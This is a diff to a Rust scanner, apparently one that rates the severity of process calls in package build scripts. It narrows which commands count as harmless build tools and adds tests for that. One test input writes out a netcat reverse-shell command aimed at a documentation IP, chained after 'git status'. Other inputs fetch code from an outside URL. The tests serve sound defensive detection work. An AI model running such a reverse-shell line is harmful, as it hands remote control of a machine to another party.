@@ -197,21 +197,39 @@ fn does(effect: Effect) -> &'static str {
     }
 }
 
-/// Whether a command begins with the name of a tool that builds use.
+/// Words after a tool's name by which it brings in or runs what is not in the package.
+const FETCHING: &[&str] = &["clone", "fetch", "get", "install", "pull", "run", "submodule", "toolchain", "update"];
+
+/// Whether each command of a line begins with the name of a tool that builds use, and fetches nothing with it.
+///
+/// A line of source, which stands where the command is not known, has a parenthesis; what a shell would put in, and
+/// where its output goes, is not known either.
 fn starts_build_tool(excerpt: &str) -> bool {
-    let mut words = excerpt.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ',' | '[' | ';' | '|'));
-    let is_tool =
-        |word: &str| BUILD_TOOLS.contains(&word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe"));
-    words.any(is_tool) || runs_own_script(excerpt)
+    if runs_own_script(excerpt) {
+        return true;
+    }
+    let is_known = !excerpt.contains(['(', '`', '$', '<', '>']) && !excerpt.contains("://");
+    let mut commands = excerpt.split([';', '|', '&', '\n']).filter(|command| !command.trim().is_empty()).peekable();
+    is_known && commands.peek().is_some() && commands.all(is_build_tool)
 }
 
-/// Whether a build starts its own interpreter again, for a file and neither for a line of code nor for an installer.
+fn is_build_tool(command: &str) -> bool {
+    let mut words = command.split_whitespace();
+    let tool = words.next().map(|word| word.rsplit(['/', '\\']).next().unwrap_or(word).trim_end_matches(".exe"));
+    tool.is_some_and(|tool| BUILD_TOOLS.contains(&tool)) && !words.any(|word| FETCHING.contains(&word))
+}
+
+/// Whether a build starts its own interpreter again for a file: neither for a line of code nor for a module.
 ///
 /// The file is no longer beside the code then, so that its own effects count.
 fn runs_own_script(excerpt: &str) -> bool {
     let mut words = excerpt.split_whitespace();
-    let is_known = words.next() == Some("sys.executable") && words.clone().next().is_some();
-    is_known && !{ words }.any(|word| word.starts_with("-c") || word.contains("pip"))
+    if words.next() != Some("sys.executable") {
+        return false;
+    }
+    let names_code = |option: &str| !option.starts_with("--") && option.contains(['c', 'm']);
+    let mut options = words.clone().take_while(|word| word.starts_with('-'));
+    !options.any(names_code) && words.any(|word| word.ends_with(".py"))
 }
 
 #[cfg(test)]
@@ -263,8 +281,30 @@ mod tests {
         assert_eq!(severities(&[built(Effect::Process, "subprocess.run", "sys.executable")]), [Severity::Medium]);
         let installs = "sys.executable -m pip install toy";
         assert_eq!(severities(&[built(Effect::Process, "subprocess.run", installs)]), [Severity::Medium]);
+        assert_eq!(
+            severities(&[built(Effect::Process, "os.system", "cmake -S . && cmake --build .")]),
+            [Severity::Low]
+        );
         assert_eq!(severities(&[built(Effect::Evaluate, "exec", "exec(open('version.py').read())")]), [Severity::Low]);
         assert_eq!(severities(&[built(Effect::Credential, "os.environ as a whole", "dict(os.environ)")]), []);
+    }
+
+    #[test]
+    fn a_tools_name_elsewhere_in_a_line_and_a_tool_that_fetches_hold() {
+        for command in [
+            "nc 192.0.2.1 4444 -e /bin/sh; git status",
+            "git = subprocess.run(command)",
+            "git $(./configure-me)",
+            "git clone https://packages.invalid/x && make -C x",
+            "cargo install toy",
+            "sys.executable -Im toy",
+        ] {
+            assert_eq!(
+                severities(&[built(Effect::Process, "subprocess.run", command)]),
+                [Severity::Medium],
+                "{command}"
+            );
+        }
     }
 
     #[test]
